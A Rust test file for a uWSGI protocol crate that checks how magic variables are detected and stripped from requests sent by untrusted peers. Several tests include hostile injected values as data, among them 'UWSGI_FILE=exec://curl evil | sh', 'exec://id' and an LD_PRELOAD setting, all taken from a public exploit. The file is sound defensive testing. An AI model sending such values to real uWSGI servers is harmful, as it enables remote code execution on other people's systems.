//! The magic-var helpers (`is_magic_var`, `Vars::has_magic_vars`,
//! `Vars::without_magic_vars`): what counts as magic, that stripping keeps everything else
//! byte for byte, and that finding them does not allocate.
//!
//! Origins: the clean requests are real captures (`tests/vectors/*.bin`, by
//! `tests/peers/capture.sh`); the magic names are the ones uWSGI 2.0's
//! `core/protocol.c` (`uwsgi_proto_check_*`) acts on; the hostile vars are derived from
//! docs/PROTOCOL.md section 7.1 (the public `UWSGI_FILE=exec://...` exploit).

use uwsgi_wire::{encode_vars, is_magic_var, EncodeError, Limits, Packet, Status, Vars};

#[path = "support/counting_alloc.rs"]
mod counting_alloc;
use counting_alloc::allocations;

/// A real capture's bytes.
fn capture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/vectors/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

/// The vars block of a captured request packet (header stripped, body left out).
fn captured_block(name: &str) -> Vec<u8> {
    let wire = capture(name);
    let Status::Complete((packet, _)) = Packet::parse(&wire, &Limits::new()).unwrap() else {
        panic!("{name} is a whole packet");
    };
    packet.vars().expect("a request").as_bytes().to_vec()
}

/// One encoded pair, written by hand (not by the crate's encoder).
fn pair(key: &[u8], value: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    out.extend_from_slice(&u16::try_from(key.len()).unwrap().to_le_bytes());
    out.extend_from_slice(key);
    out.extend_from_slice(&u16::try_from(value.len()).unwrap().to_le_bytes());
    out.extend_from_slice(value);
    out
}

/// Every magic name uWSGI 2.0's `core/protocol.c` gives a meaning to.
const UWSGI_MAGIC_NAMES: &[&str] = &[
    "UWSGI_FILE",
    "UWSGI_HOME",
    "UWSGI_APPID",
    "UWSGI_CHDIR",
    "UWSGI_SCHEME",
    "UWSGI_SCRIPT",
    "UWSGI_MODULE",
    "UWSGI_PYHOME",
    "UWSGI_SETENV",
    "UWSGI_POSTFILE",
    "UWSGI_CALLABLE",
    "UWSGI_CACHE_GET",
    "UWSGI_TOUCH_RELOAD",
];

#[test]
fn every_name_uwsgi_acts_on_is_magic() {
    for name in UWSGI_MAGIC_NAMES {
        assert!(is_magic_var(name.as_bytes()), "{name}");
        assert!(
            is_magic_var(name.to_ascii_lowercase().as_bytes()),
            "{name} in lower case"
        );
    }
    // The bare prefix is a magic name too (no such var exists, but it is uWSGI's space).
    assert!(is_magic_var(b"UWSGI_"));
    assert!(is_magic_var(b"Uwsgi_File"));
}

#[test]
fn ordinary_names_are_not_magic() {
    for name in [
        &b""[..],
        b"U",
        b"UWSGI",
        b"UWSGI-FILE",
        b"UWSGIFILE",
        b"HTTP_UWSGI_FILE", // what a client's `UWSGI-File:` header becomes at nginx
        b" UWSGI_FILE",
        b"XUWSGI_FILE",
        b"UWSGI\x00FILE",
        b"REQUEST_METHOD",
        b"\xff\xfe",
    ] {
        assert!(!is_magic_var(name), "{name:?}");
    }
}

#[test]
fn real_captures_have_no_magic_vars_and_strip_to_the_same_bytes() {
    // Captured from nginx 1.22, Apache 2.4 and lighttpd 1.4.
    for name in [
        "nginx-get.bin",
        "nginx-dup-headers.bin",
        "nginx-56vars.bin",
        "apache-post.bin",
        "lighttpd-get.bin",
    ] {
        let block = captured_block(name);
        let vars = Vars::parse(&block, &Limits::new()).unwrap();
        assert!(!vars.has_magic_vars(), "{name}");
        assert_eq!(
            vars.iter().filter(|(k, _)| is_magic_var(k)).count(),
            0,
            "{name}"
        );
        let clean = vars.without_magic_vars().unwrap();
        assert_eq!(clean.as_bytes(), &block[..], "{name}: nothing removed");
        assert_eq!(clean.vars().len(), vars.len(), "{name}");
    }
}

#[test]
fn the_uwsgi_http_router_sends_one_magic_var_itself() {
    // Captured from the uWSGI 2.0.21 HTTP router (tests/vectors/uwsgi-router-get.bin): it
    // adds `UWSGI_ROUTER=http` to every request it forwards. A trusted peer may send magic
    // vars; stripping is for input from untrusted ones, and removes exactly that pair.
    let block = captured_block("uwsgi-router-get.bin");
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    assert!(vars.has_magic_vars());
    assert_eq!(
        vars.iter()
            .filter(|(k, _)| is_magic_var(k))
            .collect::<Vec<_>>(),
        [(&b"UWSGI_ROUTER"[..], &b"http"[..])]
    );
    let clean = vars.without_magic_vars().unwrap();
    assert_eq!(clean.vars().len(), vars.len() - 1);
    let kept: Vec<_> = vars.iter().filter(|(k, _)| *k != b"UWSGI_ROUTER").collect();
    assert_eq!(clean.vars().iter().collect::<Vec<_>>(), kept);
    assert_eq!(
        clean.as_bytes().len(),
        block.len() - pair(b"UWSGI_ROUTER", b"http").len()
    );
}

#[test]
fn injected_magic_vars_are_found_in_order_and_stripped_byte_exactly() {
    // A real nginx 1.22 request (tests/vectors/nginx-get.bin) with hostile vars spliced
    // in at the start, between two pairs and at the end, one of them twice and one in
    // lower case (derived from docs/PROTOCOL.md section 7.1).
    let original = captured_block("nginx-get.bin");
    let vars = Vars::parse(&original, &Limits::new()).unwrap();
    let first_pair_len = 4 + vars.iter().next().map_or(0, |(k, v)| k.len() + v.len());

    let hostile: [(&[u8], &[u8]); 4] = [
        (b"UWSGI_FILE", b"exec://curl evil | sh"),
        (b"UWSGI_SETENV", b"LD_PRELOAD=/tmp/x.so"),
        (b"uwsgi_chdir", b"/"),
        (b"UWSGI_FILE", b"exec://id"),
    ];
    let mut spliced = pair(hostile[0].0, hostile[0].1);
    spliced.extend_from_slice(&original[..first_pair_len]);
    spliced.extend_from_slice(&pair(hostile[1].0, hostile[1].1));
    spliced.extend_from_slice(&pair(hostile[2].0, hostile[2].1));
    spliced.extend_from_slice(&original[first_pair_len..]);
    spliced.extend_from_slice(&pair(hostile[3].0, hostile[3].1));

    let dirty = Vars::parse(&spliced, &Limits::new()).unwrap();
    assert!(dirty.has_magic_vars());
    assert_eq!(
        dirty
            .iter()
            .filter(|(k, _)| is_magic_var(k))
            .collect::<Vec<_>>(),
        hostile
    );
    assert_eq!(dirty.len(), vars.len() + 4);

    let clean = dirty.without_magic_vars().unwrap();
    assert_eq!(clean.as_bytes(), &original[..]);
    assert_eq!(clean.vars(), vars);
    assert!(!clean.vars().has_magic_vars());

    // The allocation-free way (filter while encoding) gives the same bytes.
    let mut buf = vec![0u8; spliced.len()];
    let n = encode_vars(dirty.iter().filter(|(k, _)| !is_magic_var(k)), &mut buf).unwrap();
    assert_eq!(&buf[..n], &original[..]);
}

#[test]
fn a_block_of_only_magic_vars_strips_to_empty() {
    // Derived from docs/PROTOCOL.md section 7.1.
    let block = [
        pair(b"UWSGI_FILE", b"exec://id"),
        pair(b"UWSGI_SCRIPT", b"x"),
    ]
    .concat();
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    assert_eq!(vars.iter().filter(|(k, _)| is_magic_var(k)).count(), 2);
    let clean = vars.without_magic_vars().unwrap();
    assert!(clean.vars().is_empty());
    assert!(clean.as_bytes().is_empty());
}

#[test]
fn magic_values_and_lookalike_keys_are_not_touched() {
    // Only keys matter: a value naming a magic var is data (derived from the spec).
    let block = [
        pair(b"HTTP_UWSGI_FILE", b"exec://id"),
        pair(b"QUERY_STRING", b"UWSGI_FILE=exec://id"),
        pair(b"UWSGI", b"1"),
    ]
    .concat();
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    assert!(!vars.has_magic_vars());
    assert_eq!(vars.without_magic_vars().unwrap().as_bytes(), &block[..]);
}

#[test]
fn stripping_reports_a_view_too_big_for_one_block() {
    // `Vars::parse` accepts any slice; a packet's block is at most 65535 bytes. Two
    // 40000-byte values (derived from the 16-bit datasize, docs/PROTOCOL.md section 1)
    // cannot be rebuilt into one block...
    let big = vec![b'x'; 40_000];
    let block = [pair(b"A", &big), pair(b"B", &big)].concat();
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    assert_eq!(
        vars.without_magic_vars().unwrap_err(),
        EncodeError::BlockTooLarge {
            len: 2 * (4 + 1 + 40_000),
            limit: u16::MAX
        }
    );
    // ...but once the magic one is gone, what is left fits.
    let block = [pair(b"A", &big), pair(b"UWSGI_FILE", &big)].concat();
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    let clean = vars.without_magic_vars().unwrap();
    assert_eq!(clean.as_bytes(), &pair(b"A", &big)[..]);

    // 13108 minimal pairs (65540 bytes, one more than a block holds): too many entries.
    let block = pair(b"a", b"").repeat(13_108);
    let vars = Vars::parse(&block, &Limits::new().max_vars(usize::MAX)).unwrap();
    assert_eq!(
        vars.without_magic_vars().unwrap_err(),
        EncodeError::TooManyEntries { limit: 13_107 }
    );
}

#[test]
fn finding_magic_vars_does_not_allocate() {
    // Guard: the counter does see allocations, so the zeros below mean something.
    let (_, n) = allocations(|| vec![0u8; 16]);
    assert!(n >= 1);

    let mut block = captured_block("nginx-56vars.bin"); // captured from nginx 1.22
    block.extend_from_slice(&pair(b"UWSGI_FILE", b"exec://id"));
    let vars = Vars::parse(&block, &Limits::new()).unwrap();
    let (found, n) = allocations(|| vars.has_magic_vars());
    assert!(found);
    assert_eq!(n, 0, "has_magic_vars allocated");
    let (count, n) = allocations(|| vars.iter().filter(|(k, _)| is_magic_var(k)).count());
    assert_eq!(count, 1);
    assert_eq!(n, 0, "filtering with is_magic_var allocated");
    let (magic, n) = allocations(|| is_magic_var(b"UWSGI_SETENV"));
    assert!(magic);
    assert_eq!(n, 0);
}
